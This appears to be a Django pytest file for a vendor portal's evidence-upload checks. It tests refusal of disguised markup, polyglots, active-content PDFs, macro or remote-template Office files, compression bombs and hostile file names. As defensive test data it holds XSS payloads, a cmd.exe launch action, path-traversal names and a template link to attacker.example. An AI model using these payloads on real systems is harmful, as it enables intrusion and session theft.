"""Uploads: files that lie about what they are, polyglots, oversized files and hostile
names are refused with a reason, or stored and served so that they can never run.

Vendors only ever see names: the portal has no URL that serves a file. Analysts get
files from the admin as attachments with nosniff and a sandboxing policy.
"""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.urls import get_resolver, reverse

from cxvet.pdf import render_pdf
from questionnaires.evidence import (
    PDF_INFLATE_BUDGET,
    PDF_STREAM_COST,
    EvidenceRejected,
    EvidenceSizeLimit,
    check_upload,
    refused_while_streaming,
    safe_name,
)
from questionnaires.models import Evidence
from tests.factories import UserFactory
from tests.vendors.helpers import open_response, url

from .conftest import AS_SCRIPT

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
HTML = b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>"
SCRIPT = b"<script>alert(document.cookie)</script>"


def _file(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def _package(parts: dict[str, str | bytes], *, content_types: str = "<Types/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", "<Relationships/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _rels(target_mode: str, kind: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="http://attacker.example/t.dotm" '
        f'TargetMode="{target_mode}"/></Relationships>'
    )


def _refusal(upload) -> str:
    with pytest.raises(EvidenceRejected) as refused:
        check_upload(upload)
    return str(refused.value)


# Files that lie about what they are ------------------------------------------------------


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.pdf", HTML),
        ("notes.txt", b"Monitoring notes\n" + SCRIPT),
        ("chart.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("page.csv", b"\xef\xbb\xbf  <html><body>hi</body></html>"),
        ("frame.txt", "<IFRAME src=//x>".encode("utf-16")),
    ],
)
def test_markup_passed_off_as_another_type_is_refused(name, content):
    message = _refusal(_file(name, content, content_type="application/pdf"))
    assert "web page or markup" in message


def test_the_declared_type_counts_for_nothing():
    checked = check_upload(_file("report.pdf", PDF, content_type="text/html"))
    assert (checked.content_type, checked.name) == ("application/pdf", "report.pdf")


def test_plain_text_and_csv_that_mention_angle_brackets_are_accepted():
    checked = check_upload(_file("rates.csv", b"rate,note\n3,< 5% of contacts\n"))
    assert checked.content_type == "text/csv"


# Polyglots -----------------------------------------------------------------------------------


def test_an_image_that_is_also_a_web_page_is_refused():
    message = _refusal(_file("logo.png", PNG + b"<!-- " + HTML + b" -->"))
    assert "also holds a web page or script" in message


@pytest.mark.parametrize(
    "active",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/AA << /O << /S /J#61vaScript /J#53 (x) >> >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
    ],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(active):
    content = PDF.replace(b"<<>>", b"<<" + active + b">>")
    assert "JavaScript, a program launch or embedded files" in _refusal(_file("a.pdf", content))


def test_a_pdf_with_ordinary_actions_and_html_in_its_text_is_stored_as_a_pdf():
    # Opening at a page is not active content; markup inside a PDF cannot run while it
    # is served as a PDF attachment with nosniff (see the download test below).
    content = PDF.replace(b"<<>>", b"<< /OpenAction [3 0 R /Fit] >>") + HTML
    assert check_upload(_file("a.pdf", content)).content_type == "application/pdf"


@pytest.mark.parametrize(
    "parts, content_types, says",
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "<Types/>", "macros"),
        (
            {},
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled'
            '.main+xml"/></Types>',
            "macro-enabled",
        ),
        ({"word/activeX/activeX1.xml": "<ax/>"}, "<Types/>", "ActiveX"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "<Types/>", "embedded programs"),
        (
            {"word/_rels/settings.xml.rels": _rels("External", "attachedTemplate")},
            "<Types/>",
            "loads a template or object from elsewhere",
        ),
        (
            {"word/_rels/document.xml.rels": _rels("External", "oleObject")},
            "<Types/>",
            "loads a template or object from elsewhere",
        ),
    ],
)
def test_office_files_with_macros_or_remote_content_are_refused(parts, content_types, says):
    content = _package({"word/document.xml": "<document/>", **parts}, content_types=content_types)
    assert says in _refusal(_file("policy.docx", content))


def test_office_files_with_hyperlinks_charts_and_printer_settings_are_accepted():
    docx = _package(
        {
            "word/document.xml": "<document/>",
            "word/_rels/document.xml.rels": _rels("External", "hyperlink"),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK",
        }
    )
    assert check_upload(_file("policy.docx", docx)).name == "policy.docx"
    xlsx = _package(
        {"xl/workbook.xml": "<workbook/>", "xl/printerSettings/printerSettings1.bin": b"\x00"}
    )
    assert check_upload(_file("rates.xlsx", xlsx)).name == "rates.xlsx"


def test_a_damaged_office_file_is_refused_as_damaged():
    content = _package({"word/document.xml": "<document/>"})[:-30]  # the central directory cut off
    message = _refusal(_file("policy.docx", content))
    assert message.startswith("This Office file is damaged")


# Names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, stored",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\a.pdf", "a.pdf"),
        ("a\x00b.pdf", "a-b.pdf"),
        ("invoice\u202efdp.exe", "invoice-fdp.pdf"),
        ("report.html", "report.pdf"),
        ("report.pdf.html", "report-pdf.pdf"),
        ("report.html.pdf", "report-html.pdf"),
        (
            "\uff52\uff45\uff50\uff4f\uff52\uff54\uff0e\uff48\uff54\uff4d\uff4c",
            "report.pdf",
        ),  # full width
        ("CON.pdf", "evidence-CON.pdf"),
        ("lpt1", "evidence-lpt1.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img-src-x-onerror-alert-1.pdf"),
        ("...", "evidence.pdf"),
        ("x" * 5000 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_hostile_names_are_rebuilt_from_safe_characters(name, stored):
    assert safe_name(name, "pdf") == stored


def test_a_hostile_name_through_the_portal_is_stored_under_the_response_only(client, portal):
    token, response = portal
    name = "../../" + "\u202e" + "x" * 300 + ".html"
    reply = client.post(
        url("evidence", token, "monitoring_report"),
        {"monitoring_report-evidence": _file(name, PDF)},
        **AS_SCRIPT,
    ).json()
    evidence = Evidence.objects.get()
    assert reply["added"] == [evidence.original_name]
    assert evidence.original_name == "x" * 100 + ".pdf"
    assert evidence.file.name.startswith(f"evidence/{response.pk}/")
    assert ".." not in evidence.file.name


def test_a_refusal_quotes_a_long_name_shortened(client, portal):
    token, _ = portal
    reply = client.post(
        url("evidence", token, "monitoring_report"),
        {"monitoring_report-evidence": _file("y" * 3000 + ".pdf", HTML)},
        **AS_SCRIPT,
    ).json()
    (error,) = reply["errors"]
    name, _, reason = error.partition(": ")
    assert len(name) == 80 and name.endswith("…")
    assert "web page or markup" in reason


# Sizes and counts --------------------------------------------------------------------------


class Recording(FileUploadHandler):
    """Test scaffolding: the bytes each file handed on to the handlers that store it."""

    received: list[int] = []

    def new_file(self, *args, **kwargs):
        super().new_file(*args, **kwargs)
        Recording.received.append(0)

    def receive_data_chunk(self, raw_data, start):
        Recording.received[-1] += len(raw_data)
        return raw_data

    def file_complete(self, file_size):
        return None


def test_an_oversized_file_is_dropped_while_it_streams_in(rf, settings):
    settings.EVIDENCE_MAX_BYTES = 100_000
    big = PDF + b"0" * 1_000_000
    request = rf.post(
        "/portal/t/evidence/q/",
        {"q-evidence": [_file("big.pdf", big), _file("small.pdf", PDF)], "x": "1"},
    )
    Recording.received = []
    request.upload_handlers = [
        EvidenceSizeLimit(request),
        Recording(request),
        *request.upload_handlers[1:],
    ]

    files = request.FILES.getlist("q-evidence")

    assert [f.name for f in files] == ["small.pdf"]
    assert refused_while_streaming(request, "q-evidence") == [
        "big.pdf: This file is over 97.7 KB, the limit for one file."
    ]
    # What reached the storing handlers stopped at the limit, not at the file's end.
    assert Recording.received[0] <= settings.EVIDENCE_MAX_BYTES
    assert Recording.received[1] == len(PDF)
    assert request.POST["x"] == "1"


def test_an_oversized_file_is_reported_by_the_portal(client, portal, settings):
    settings.EVIDENCE_MAX_BYTES = 5_000
    token, _ = portal
    for endpoint_post in (
        lambda f: client.post(
            url("evidence", token, "monitoring_report"),
            {"monitoring_report-evidence": [f, _file("ok.pdf", PDF)]},
            **AS_SCRIPT,
        ).json()["errors"],
        lambda f: _section_errors(client, token, f),
    ):
        errors = endpoint_post(_file("big.pdf", PDF + b"0" * 20_000))
        assert any("big.pdf: This file is over 4.9 KB" in e for e in errors), errors
    assert list(Evidence.objects.values_list("original_name", flat=True)) == ["ok.pdf"]


def _section_errors(client, token, upload) -> list[str]:
    page = client.post(
        url("section", token, "oversight"),
        {"monitoring_report-evidence": [upload], "monitoring_report-revision": 0},
    )
    assert page.status_code == 200
    return [page.content.decode()]


def test_files_per_answer_are_capped(client, portal, settings):
    settings.EVIDENCE_MAX_FILES_PER_ANSWER = 2
    token, _ = portal
    reply = client.post(
        url("evidence", token, "monitoring_report"),
        {"monitoring_report-evidence": [_file(f"{i}.pdf", PDF) for i in range(3)]},
        **AS_SCRIPT,
    ).json()
    assert reply["added"] == ["0.pdf", "1.pdf"]
    assert reply["errors"] == [
        "2.pdf: This question already has 2 files, the most one answer can have. "
        "Remove one to add another, or combine them into one PDF."
    ]


def test_files_per_response_are_capped_in_count_and_bytes(client, portal, settings):
    settings.EVIDENCE_MAX_FILES_PER_RESPONSE = 2
    token, _ = portal
    first = client.post(
        url("evidence", token, "monitoring_report"),
        {"monitoring_report-evidence": [_file(f"{i}.pdf", PDF) for i in range(2)]},
        **AS_SCRIPT,
    ).json()
    over = client.post(
        url("evidence", token, "rollback_rate"),
        {"rollback_rate-evidence": [_file("more.pdf", PDF)]},
        **AS_SCRIPT,
    ).json()
    assert first["added"] == ["0.pdf", "1.pdf"]
    assert over["errors"][0].startswith("more.pdf: This response already has 2 files")

    settings.EVIDENCE_MAX_FILES_PER_RESPONSE = 100
    settings.EVIDENCE_MAX_RESPONSE_BYTES = 3 * len(PDF) - 1
    over_bytes = client.post(
        url("evidence", token, "rollback_rate"),
        {"rollback_rate-evidence": [_file("more.pdf", PDF)]},
        **AS_SCRIPT,
    ).json()
    assert "all files together can be at most" in over_bytes["errors"][0]
    assert Evidence.objects.count() == 2


# Served so that nothing runs ------------------------------------------------------------------


def test_the_portal_has_no_url_that_serves_a_stored_file():
    """Uploaded files never come back through the portal; the one file it sends is the
    workbook it writes afresh from the response (test below)."""
    portal = get_resolver().url_patterns
    names = {
        p.name
        for include in portal
        if getattr(include, "namespace", None) == "portal"
        for p in include.url_patterns
    }
    assert names == {
        "overview",
        "section",
        "autosave",
        "evidence",
        "evidence_remove",
        "confirm",
        "submit",
        "sent",
        "workbook",
        "workbook_download",
        "workbook_preview",
    }


def test_the_portals_workbook_is_a_fresh_attachment_that_runs_nothing(client, example_version):
    token, _ = open_response(example_version)
    download = client.get(reverse("portal:workbook_download", args=[token]))
    assert download.status_code == 200
    assert download["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download.content[:2] == b"PK"  # a zip (XLSX), not a page


@pytest.mark.parametrize(
    "name, content, declared",
    [
        ("poly.pdf", PDF + HTML, "text/html"),
        ("notes.txt", b"plain words", "text/html"),
    ],
)
def test_the_admin_serves_a_stored_file_as_an_attachment_that_runs_nothing(
    client, example_version, settings, name, content, declared
):
    token, _ = open_response(example_version)
    client.post(
        url("evidence", token, "monitoring_report"),
        {"monitoring_report-evidence": _file(name, content, declared)},
    )
    evidence = Evidence.objects.get()
    client.force_login(UserFactory())

    served = client.get(f"/admin/questionnaires/evidence/{evidence.pk}/download/")

    assert served["Content-Type"] == evidence.content_type
    assert served["Content-Type"] in ("application/pdf", "text/plain")
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == settings.DOWNLOAD_CSP
    assert "sandbox" in served["Content-Security-Policy"]


def _pdf_with_stream(dictionary: bytes, data: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type /Catalog>>endobj\n5 0 obj\n" + dictionary + b"\nstream\n"
        b"" + data + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


@pytest.mark.parametrize(
    "dictionary",
    [
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 40 >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter [/Fl#61teDecode] >>",  # escaped name
        b"<< /N 1 /First 4 /Filter /FlateDecode >>",  # no /Type: viewers need none
    ],
)
def test_active_content_inside_a_compressed_object_stream_is_refused(dictionary):
    hidden = zlib.compress(b"6 0 << /S /JavaScript /JS (app.alert(1)) >>")
    content = _pdf_with_stream(dictionary, hidden)
    assert b"JavaScript" not in content  # the plain scan alone would accept it
    assert "JavaScript, a program launch or embedded files" in _refusal(_file("a.pdf", content))


def test_a_zlib_bomb_in_a_pdf_is_refused_quickly_as_too_much_to_check():
    packer = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    bomb = b"".join(packer.compress(zeros) for _ in range(200)) + packer.flush()  # 200 MB
    content = _pdf_with_stream(b"<< /Filter /FlateDecode >>", bomb)
    started = time.monotonic()
    message = _refusal(_file("a.pdf", content))
    assert time.monotonic() - started < 2
    assert "more compressed content than can be checked" in message


def test_countless_tiny_compressed_streams_run_out_of_budget_too():
    one = b"1 0 obj<</Filter /FlateDecode>>stream\n" + zlib.compress(b"q") + b"\nendstream\n"
    content = b"%PDF-1.7\n" + one * (PDF_INFLATE_BUDGET // PDF_STREAM_COST + 1)
    started = time.monotonic()
    assert "more compressed content" in _refusal(_file("a.pdf", content))
    assert time.monotonic() - started < 2


def test_an_ordinary_compressed_pdf_is_accepted():
    pdf = render_pdf(
        "<!doctype html><html><body><h1>Security policy</h1>"
        + "<p>Encryption at rest and in transit. JS and JavaScript are mentioned.</p>" * 200
        + "</body></html>"
    )
    assert b"/FlateDecode" in pdf
    assert check_upload(_file("policy.pdf", pdf)).content_type == "application/pdf"


def test_a_compressed_image_that_happens_to_spell_a_name_is_accepted():
    # An RGB pixel 47,74,83 reads "/JS": image data is binary and skipped.
    pixels = zlib.compress(bytes([47, 74, 83, 32, 0, 0]) * 1000)
    content = _pdf_with_stream(
        b"<< /Type /XObject /Subtype /Image /Width 2000 /Height 1 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB /Filter /FlateDecode >>",
        pixels,
    )
    assert check_upload(_file("a.pdf", content)).content_type == "application/pdf"
